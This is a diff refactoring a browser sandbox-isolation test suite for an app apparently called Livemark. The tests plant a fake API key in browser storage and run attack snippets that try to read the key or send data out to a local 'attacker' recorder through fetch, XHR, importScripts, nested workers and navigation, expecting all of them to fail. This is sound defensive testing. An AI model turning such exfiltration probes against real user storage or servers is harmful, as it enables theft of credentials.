@@ -10,7 +10,10 @@ import { readFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { DIST_DIR, ROOT_DIR, serveRecorder, waitFor, type TestServer } from "./harness";
-import { startRealmTestContext, type RealmPage, type RealmTestContext } from "./fixtures/realmTestPage";
+import {
+  ATTEMPT, attack as attackRealm, checkRecorder, expectAllFailed as failed, nestedWorkerAttack, plantSecrets, probeDocument, startRealmTestContext,
+  type RealmPage, type RealmTestContext,
+} from "./fixtures/realmTestPage";
 
 const FAKE_KEY = "sk-test-LIVEMARK-FAKE-KEY-1234567890";
 /** What the app's own server may legitimately serve to the test page (with the service worker and the manifest's files). */
@@ -26,23 +29,11 @@ beforeAll(async () => {
   target = attacker.url;
   context = await startRealmTestContext();
   realm = await context.open();
-  // Control: the attacker server does record what reaches it (here, from the
-  // app's own page, which may talk to any server).
-  await realm.page.evaluate((url) => fetch(url + "control").then((response) => response.text()), target);
-  if (attacker.requests.length !== 1) throw new Error("the attacker server does not record requests");
-  attacker.clearRequests();
+  // Control: the attacker server does record what reaches it.
+  await checkRecorder(realm.page, attacker);
   realm.requests.clear();
   // The app's secrets, where the app keeps them.
-  await realm.page.evaluate((key) => {
-    localStorage.setItem("livemark.settings.v1", JSON.stringify({ provider: "openai", apiKey: key }));
-    sessionStorage.setItem("livemark.secret", key);
-    document.cookie = `livemark_key=${key}; path=/`;
-    return new Promise((done) => {
-      const request = indexedDB.open("livemark-secrets", 1);
-      request.onupgradeneeded = () => request.result.createObjectStore("keys").put(key, "apiKey");
-      request.onsuccess = () => done(request.result.close());
-    });
-  }, FAKE_KEY);
+  await plantSecrets(realm.page, FAKE_KEY);
 });
 
 afterEach(async () => {
@@ -61,28 +52,7 @@ afterAll(async () => {
 });
 
 /** Run attack code in the realm; it reports with `console.log(JSON.stringify(...))`. */
-async function attack(code: string): Promise<Record<string, string>> {
-  const result = await realm.run(code, 20_000);
-  const lines = realm.output(result).split("\n").filter((line) => line.startsWith("{"));
-  expect(lines.length, `no report from the attack; events: ${JSON.stringify(result.events)}`).toBe(1);
-  const report = JSON.parse(lines[0]) as Record<string, string>;
-  expect(JSON.stringify(result.events)).not.toContain(FAKE_KEY);
-  return report;
-}
-
-/** Realm code: `attempt(name, fn)` records "ok: …" or the error's name and message. */
-const ATTEMPT = `
-const report = {};
-const attempt = async (name, run) => {
-  try { report[name] = "ok: " + String(await run()).slice(0, 200); }
-  catch (error) { report[name] = "failed: " + (error && error.name) + ": " + (error && error.message); }
-};
-`;
-
-const failed = (report: Record<string, string>) => {
-  if (process.env.LIVEMARK_SHOW_ATTACKS) console.log(report);
-  for (const [name, outcome] of Object.entries(report)) expect(outcome, name).toMatch(/^failed: /);
-};
+const attack = (code: string) => attackRealm(realm, code, FAKE_KEY);
 
 describe("the realm cannot read the app's data", () => {
   it("has no storage, cookies or documents of the app", async () => {
@@ -119,15 +89,7 @@ describe("the realm cannot read the app's data", () => {
 
   it("the sandbox document cannot read storage, cookies or the parent either", async () => {
     const frame = realm.sandboxFrame();
-    const report = await frame.evaluate(async () => {
-      const result: Record<string, string> = {};
-      const attempt = async (name: string, run: () => unknown) => {
-        try {
-          result[name] = "ok: " + String(await run());
-        } catch (error) {
-          result[name] = `failed: ${(error as Error).name}: ${(error as Error).message}`;
-        }
-      };
+    const report = await probeDocument(frame, async ({ attempt }) => {
       await attempt("origin is opaque", () => {
         if (self.origin === "null") throw new Error("opaque");
         return self.origin;
@@ -140,8 +102,7 @@ describe("the realm cannot read the app's data", () => {
       await attempt("top.document", () => top!.document.title);
       await attempt("parent.localStorage", () => (parent as Window).localStorage.length);
       await attempt("top.location.href", () => top!.location.href);
-      return result;
-    });
+    }, undefined);
     failed(report);
     expect(JSON.stringify(report)).not.toContain("sk-test");
   });
@@ -191,14 +152,7 @@ describe("nothing leaves the realm", () => {
 
   it("a nested worker with the platform's own network APIs is walled in too (CSP)", async () => {
     const report = await attack(`${ATTEMPT}
-      const target = ${JSON.stringify(target)};
-      const nested = \`
-        const out = {};
-        const attempt = async (name, run) => {
-          try { out[name] = "ok: " + String(await run()); }
-          catch (error) { out[name] = "failed: " + (error && error.name) + ": " + (error && error.message); }
-        };
-        (async () => {
+      ${nestedWorkerAttack(`const T = ${JSON.stringify(target)};`, `
           await attempt("fetch", () => fetch(T + "nested-fetch").then((r) => r.text()));
           await attempt("XMLHttpRequest", () => new Promise((resolve, reject) => {
             const request = new XMLHttpRequest();
@@ -219,16 +173,7 @@ describe("nothing leaves the realm", () => {
           await attempt("importScripts", () => { importScripts(T + "nested.js"); return self.__leaked; });
           await attempt("import()", () => import(T + "nested-import.js"));
           await attempt("indexedDB", () => indexedDB.open("x"));
-          postMessage(out);
-        })();
-      \`;
-      await attempt("nested worker", () => new Promise((resolve, reject) => {
-        const url = URL.createObjectURL(new Blob(["const T = " + JSON.stringify(target) + ";" + nested], { type: "text/javascript" }));
-        const worker = new Worker(url);
-        worker.onmessage = (event) => { Object.assign(report, Object.fromEntries(Object.entries(event.data).map(([k, v]) => ["nested " + k, v]))); reject(new Error("reported")); };
-        worker.onerror = (event) => reject(new Error("worker error: " + event.message));
-        setTimeout(() => reject(new Error("no report")), 10000);
-      }));
+      `)}
       console.log(JSON.stringify(report));
     `);
     expect(report["nested worker"]).toBe("failed: Error: reported");
@@ -238,15 +183,7 @@ describe("nothing leaves the realm", () => {
 
   it("the sandbox document cannot reach the network either", async () => {
     const frame = realm.sandboxFrame();
-    const report = await frame.evaluate(async (target) => {
-      const result: Record<string, string> = {};
-      const attempt = async (name: string, run: () => unknown) => {
-        try {
-          result[name] = "ok: " + String(await run());
-        } catch (error) {
-          result[name] = `failed: ${(error as Error).name}: ${(error as Error).message}`;
-        }
-      };
+    const report = await probeDocument(frame, async ({ attempt, argument: target }) => {
       const loads = (element: HTMLElement & { src?: string; href?: string }, attribute: "src" | "href", url: string) =>
         new Promise((resolve, reject) => {
           element.addEventListener("load", () => resolve("loaded"));
@@ -297,7 +234,6 @@ describe("nothing leaves the realm", () => {
         top!.location.href = target + "doc-top";
         return "navigated";
       });
-      return result;
     }, target);
     await realm.page.waitForTimeout(500);
     failed(report);
